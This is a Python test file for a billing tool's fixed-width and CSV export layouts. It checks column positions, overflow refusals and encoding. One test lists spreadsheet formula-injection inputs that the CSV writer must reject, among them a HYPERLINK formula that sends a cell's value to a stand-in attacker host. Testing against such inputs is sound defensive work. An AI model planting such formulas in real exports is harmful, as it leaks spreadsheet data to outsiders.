"""Layouts: every column in its place, and whatever does not fit is named. Read back by a reader that knows no layout code."""

import csv
import io
from typing import Any

import pytest

from billing_bridge.layouts import Column, Kind, Layout, amount, date, integer, quantity, text, write_file
from billing_bridge.profiles import PROFILES
from zb_contracts.problems import BILLING_LAYOUT, Problem

# Positions as the ERP's documentation would print them, written down again on purpose.
FIXED_LINE = {
    "record": (0, 1),
    "batch": (1, 9),
    "number": (9, 15),
    "reference": (15, 47),
    "account": (47, 67),
    "document": (67, 68),
    "kind": (68, 76),
    "code": (76, 100),
    "label": (100, 160),
    "covered": (160, 161),
    "quantity": (161, 174),
    "unit": (174, 182),
    "unit_price": (182, 194),
    "net": (194, 208),
    "vat_permille": (208, 212),
    "vat": (212, 226),
}
ERP = PROFILES["erp"].layouts


def parsed(line: str) -> dict[str, str]:
    return {name: line[start:end].strip() for name, (start, end) in FIXED_LINE.items()}


def read_fixed(content: bytes) -> tuple[str, list[dict[str, str]], str]:
    """Header, lines, trailer."""
    header, *lines, trailer = content.decode("iso8859-15").split("\r\n")[:-1]
    return header, [parsed(line) for line in lines], trailer


def a_line(**values: Any) -> dict[str, Any]:
    return {
        "record": "L",
        "batch": 7,
        "number": 1,
        "reference": "LEAKY-1",
        "account": "411SYN",
        "document": "F",
        "kind": "part",
        "code": "SEAL-12",
        "label": "Joint à lèvre, œillet",
        "covered": "",
        "quantity": "-1.5",
        "unit": "pce",
        "unit_price": 1_234,
        "net": -1_851,
        "vat_permille": 200,
        "vat": -370,
    } | values


HEADER = {"record": "E", "profile": "erp", "batch": 7, "date": "2026-03-16", "currency": "EUR"}
TRAILER = {"record": "T", "batch": 7, "interventions": 1, "lines": 1, "net": -1_851, "vat": -370, "total": -2_221}


def written(layout: Layout, **values: Any) -> bytes:
    return write_file(layout, HEADER, [a_line(**values)], TRAILER)


def test_the_fixed_width_file_is_read_back_by_positions() -> None:
    header, (line,), trailer = read_fixed(written(ERP[0]))
    assert header == "Eerp             0000000720260316EUR"
    assert line == {
        "record": "L",
        "batch": "00000007",
        "number": "000001",
        "reference": "LEAKY-1",
        "account": "411SYN",
        "document": "F",
        "kind": "part",
        "code": "SEAL-12",
        "label": "Joint à lèvre, œillet",
        "covered": "",
        "quantity": "-000000001500",
        "unit": "pce",
        "unit_price": "+00000001234",
        "net": "-0000000001851",
        "vat_permille": "0200",
        "vat": "-0000000000370",
    }
    assert trailer == "T00000007000001000001-000000000001851-000000000000370-000000000002221"


def test_every_record_of_a_kind_has_the_same_length() -> None:
    lines = written(ERP[0]).split(b"\r\n")
    assert [len(line) for line in lines] == [36, 226, 69, 0]


def test_the_csv_file_is_read_back_by_the_standard_library() -> None:
    rows = list(csv.reader(io.StringIO(written(ERP[1], label='A "quoted"; label').decode(), newline=""), delimiter=";"))
    assert rows[0] == ["E", "erp", "7", "2026-03-16", "EUR"]
    assert rows[1][8:] == ['A "quoted"; label', "", "-1,500", "pce", "12,34", "-18,51", "200", "-3,70"]
    assert rows[2] == ["T", "7", "1", "1", "-18,51", "-3,70", "-22,21"]


@pytest.mark.parametrize("layout", ERP, ids=lambda layout: layout.name)
@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("label", "x" * 61, "61 characters for 60"),
        ("reference", "R" * 33, "33 characters for 32"),
        ("net", 10**13, "characters for 14"),
        ("quantity", "1.2345", "more than 3 decimals"),
        ("quantity", "1000000000", "characters for 13"),
        ("vat_permille", 10_000, "5 characters for 4"),
        ("label", "two\nlines", "control character"),
        ("label", "a\ttab", "control character"),
        ("label", "\ud800", "control character"),
    ],
)
def test_what_does_not_fit_is_named_and_nothing_is_cut(layout: Layout, field: str, value: Any, reason: str) -> None:
    if layout.form == "csv" and field in ("net", "quantity") and "characters" in reason:
        value = value * 100 if field == "net" else value + "0000"
    with pytest.raises(Problem) as refused:
        written(layout, **{field: value})
    assert refused.value.kind is BILLING_LAYOUT
    assert refused.value.details["field"] == f"line 1, {field}"
    assert reason in refused.value.details["reason"]


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/"&A1)', "+1+1", "-2+3", "@SUM(A1)"])
@pytest.mark.parametrize("field", ["label", "reference"])
def test_what_is_a_formula_to_a_spreadsheet_is_in_no_csv(field: str, value: str) -> None:
    with pytest.raises(Problem) as refused:
        written(ERP[1], **{field: value[:32]})
    assert (refused.value.details["field"], "formula" in refused.value.details["reason"]) == (f"line 1, {field}", True)


def test_a_character_that_the_files_alphabet_lacks_is_named() -> None:
    with pytest.raises(Problem) as refused:
        written(ERP[0], label="Ventil №5")
    assert "U+2116" in str(refused.value)
    assert "№".encode() in written(ERP[1], label="Ventil №5")


def test_columns_are_data() -> None:
    columns = (Column("name", 6, align="right", padding="."), integer("count", 3), quantity("size", 6, 2), date("day", 8))
    layout = Layout("odd", "fixed", ".odd", "ascii", (text("name", 4),), columns, (amount("sum", 6),))
    content = write_file(layout, {"name": "h"}, [{"name": "ab", "count": 5, "size": "2.5", "day": "2026-03-16"}], {"sum": 9})
    assert content == b"h   \r\n....ab005+0025020260316\r\n+00009\r\n"
    assert {column.kind for column in columns} == {Kind.TEXT, Kind.INTEGER, Kind.QUANTITY, Kind.DATE}
